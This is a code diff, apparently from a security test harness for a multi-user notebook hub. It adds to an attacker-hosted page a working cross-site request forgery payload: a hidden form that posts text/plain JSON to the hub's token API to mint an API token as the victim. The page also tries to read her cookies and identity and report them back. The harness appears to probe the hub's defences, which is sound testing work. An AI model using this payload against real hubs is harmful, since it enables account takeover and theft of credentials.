@@ -70,7 +70,7 @@ os.execv(sys.executable, [sys.executable, "-I", "-c", ${JSON.stringify(LISTENER)
  * The page bob asks alice to open (a link in a chat, a notebook he shares). It runs in alice's
  * browser at bob's server's address and tries, as her: to read her cookies (its own document's,
  * and those of the hub's page loaded in a frame), to read her identity from the hub's API, to find
- * the hub's _xsrf token and to make an API token in her name. Query: `hub`, the hub's origin ('' for
+ * the hub's _xsrf token and to make an API token in her name, by fetch and by a plain form. Query: `hub`, the hub's origin ('' for
  * the same origin), `victim`, her user name. It reports what it got to `report`, then sets its
  * title to "done".
  */
@@ -114,6 +114,30 @@ const PAGE = `<!doctype html>
     headers: {'Content-Type': 'application/json', ...(xsrf ? {'X-XSRFToken': xsrf} : {})},
     body: JSON.stringify({note: 'made by bob', expires_in: 600}),
   })
+  // A plain HTML form, as a page of another site could send it: a POST (no preflight, no CORS), its
+  // body JSON in text/plain, to the token API as alice; once with the _xsrf token in the query when
+  // the page found one, once without. What the hub did is read from its side (the tokens it made).
+  const submit = (note, withXsrf) => new Promise((resolve) => {
+    const name = 'form-' + Math.random().toString(36).slice(2)
+    const frame = document.createElement('iframe')
+    frame.name = name
+    document.body.appendChild(frame)
+    const form = document.createElement('form')
+    form.method = 'POST'
+    form.enctype = 'text/plain'
+    form.target = name
+    form.action = hub + '/hub/api/users/' + encodeURIComponent(victim) + '/tokens' + (withXsrf ? '?_xsrf=' + encodeURIComponent(xsrf) : '')
+    const field = document.createElement('input')
+    field.name = '{"note": "' + note + '", "expires_in": 600, "x": "'
+    field.value = '"}'
+    form.appendChild(field)
+    document.body.appendChild(form)
+    frame.onload = () => resolve(true)
+    setTimeout(() => resolve(false), 30000)
+    form.submit()
+  })
+  report.formSent = [await submit('form by bob, without _xsrf', false)]
+  if (xsrf) report.formSent.push(await submit('form by bob, with _xsrf', true))
   await fetch('report', {method: 'POST', body: JSON.stringify(report)})
   document.title = 'done'
 })()
@@ -133,6 +157,8 @@ export type AttackEntry =
         xsrfFound: boolean
         frameCookie: string
         token: Call
+        /** Whether each form's answer loaded in its frame (the hub's side says what it did). */
+        formSent: boolean[]
       }
     }
 
